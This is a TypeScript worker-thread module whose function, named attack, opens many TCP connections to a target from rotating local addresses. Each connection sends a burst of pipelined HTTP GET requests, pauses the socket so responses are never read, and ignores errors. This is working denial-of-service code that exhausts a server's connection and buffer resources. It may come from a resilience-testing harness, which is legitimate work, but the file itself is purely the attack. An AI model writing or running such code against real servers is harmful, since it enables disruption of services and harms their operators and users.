import { connect } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'

/** The path that the connections request, and their addresses. */
export interface SilentReaders {
  readonly hostname: string
  readonly port: number
  readonly path: string
  /** Number of requests that each connection sends at once. */
  readonly requests: number
  readonly connections: number
  readonly addresses: readonly string[]
}

/** Runs as a worker: opens connections that send all their requests and never read an answer. */
function attack({ hostname, port, path, requests, connections, addresses }: SilentReaders): void {
  const pipeline = `GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n\r\n`.repeat(requests)
  for (let index = 0; index < connections; index++) {
    const localAddress = addresses[index % addresses.length]!
    const socket = connect({ host: hostname, port, localAddress }, () => socket.write(pipeline))
    socket.pause()
    socket.on('error', () => undefined)
  }
}

// Loaded before the signal, so that the time to load is not part of the attack.
parentPort?.once('message', () => attack(workerData as SilentReaders))
